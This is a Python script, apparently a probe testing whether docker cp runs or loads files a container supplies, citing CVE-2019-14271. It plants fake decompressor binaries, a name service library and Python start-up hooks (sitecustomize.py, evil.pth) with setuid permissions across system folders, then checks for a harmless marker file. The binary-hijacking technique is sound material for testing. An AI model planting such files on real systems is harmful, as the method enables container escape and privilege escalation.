"""CVE-2019-14271, CVE-2026-41567 (docker cp): the copying side ran or loaded what the container supplied.

Plants decompressors, a name service library and start-up files of Python wherever it can write.
"""

import json
import os

FOLDERS = ["/usr/bin", "/usr/local/bin", "/bin", "/sbin", "/lib/x86_64-linux-gnu", "/usr/lib", "/fumehood", "/work", "/work/out", "/tmp", "/dev/shm"]
SHELL = "#!/bin/sh\ntouch /tmp/helper-was-run\n"
PYTHON = "open('/tmp/helper-was-run', 'w').close()\n"
HELPERS = {
    "xz": SHELL, "unpigz": SHELL, "gzip": SHELL, "zstd": SHELL, "tar": SHELL, "docker-untar": SHELL, "libnss_files.so.2": SHELL,
    "sitecustomize.py": PYTHON, "usercustomize.py": PYTHON, "evil.pth": "import os; " + PYTHON,
}

planted = set()
for folder in FOLDERS:
    for name, text in HELPERS.items():
        path = os.path.join(folder, name)
        try:
            with open(path, "x") as file:
                file.write(text)
            os.chmod(path, 0o6777)
            planted.add(folder)
        except OSError:
            pass
print(json.dumps({"planted": " ".join(sorted(planted)), "run": os.path.exists("/tmp/helper-was-run")}))
